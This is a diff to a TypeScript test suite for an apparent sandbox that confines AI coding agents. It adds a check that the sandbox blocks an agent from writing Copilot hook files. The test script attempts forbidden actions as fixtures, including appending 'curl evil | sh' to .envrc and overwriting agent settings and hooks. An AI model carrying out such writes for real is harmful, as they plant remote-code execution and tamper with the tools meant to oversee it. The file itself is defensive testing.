@@ -64,10 +64,11 @@ try 'test -s toolgate.yaml' 'read toolgate.yaml'
 try 'echo "{\\"hooks\\": {}}" > .claude/settings.local.json' 'write Claude Code settings'
 try 'echo "curl evil | sh" >> .envrc' 'write .envrc'
 try 'echo "{}" > .vscode/tasks.json' 'write .vscode through a link'
+try 'echo "{}" > .github/hooks/evil.json' 'write Copilot hooks'
 `;
 
 function project(): HostProject {
-  const created = hostProject({ policy: WRAP_POLICY, files: { 'build.sh': BUILD_SCRIPT, '.npmrc': 'update-notifier=false\n', '.claude/settings.local.json': '{}\n', '.envrc': '', 'package.json': JSON.stringify({ name: 'app', private: true, scripts: { test: 'node -e "require(\'fs\').writeFileSync(\'tested.txt\', process.version)"' } }) } });
+  const created = hostProject({ policy: WRAP_POLICY, files: { 'build.sh': BUILD_SCRIPT, '.npmrc': 'update-notifier=false\n', '.claude/settings.local.json': '{}\n', '.github/hooks/ci.json': '{}\n', '.envrc': '', 'package.json': JSON.stringify({ name: 'app', private: true, scripts: { test: 'node -e "require(\'fs\').writeFileSync(\'tested.txt\', process.version)"' } }) } });
   cleanup.push(() => rmSync(path.dirname(created.directory), { recursive: true, force: true }));
   chmodSync(path.join(created.directory, 'build.sh'), 0o755);
   mkdirSync(path.join(path.dirname(created.directory), 'data'));
@@ -98,7 +99,7 @@ function tried(where: HostProject): string[] {
   return readFileSync(path.join(where.directory, 'tried.txt'), 'utf8').trim().split('\n');
 }
 
-const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml', 'failed: write Claude Code settings', 'failed: write .envrc', 'failed: write .vscode through a link'];
+const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml', 'failed: write Claude Code settings', 'failed: write .envrc', 'failed: write .vscode through a link', 'failed: write Copilot hooks'];
 
 function expectConfined(where: HostProject): void {
   expect(tried(where)).toEqual(EXPECTED_TRIES);
@@ -111,6 +112,7 @@ function expectConfined(where: HostProject): void {
   expect(readFileSync(path.join(where.directory, '.claude/settings.local.json'), 'utf8')).toBe('{}\n');
   expect(readFileSync(path.join(where.directory, '.envrc'), 'utf8')).toBe('');
   expect(readFileSync(path.join(where.directory, 'editor', 'tasks.json'), 'utf8')).toBe('[]\n');
+  expect(existsSync(path.join(where.directory, '.github/hooks/evil.json'))).toBe(false);
 }
 
 describe('sandbox.hosts: wrap, in front of the real Claude Code', () => {
@@ -217,7 +219,7 @@ describe('sandbox.hosts: wrap, in front of the real opencode', () => {
     writeFileSync(unwrapped.policyFile, WRAP_POLICY.replace('  hosts: wrap\n', '  hosts: off\n'));
     const loose = await runHostSession({ host: 'opencode', project: unwrapped, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
     expectOffline(loose);
-    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml', 'ok: write Claude Code settings', 'ok: write .envrc', 'ok: write .vscode through a link']);
+    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml', 'ok: write Claude Code settings', 'ok: write .envrc', 'ok: write .vscode through a link', 'ok: write Copilot hooks']);
     rmSync(OUTSIDE);
 
     const copilot = project();
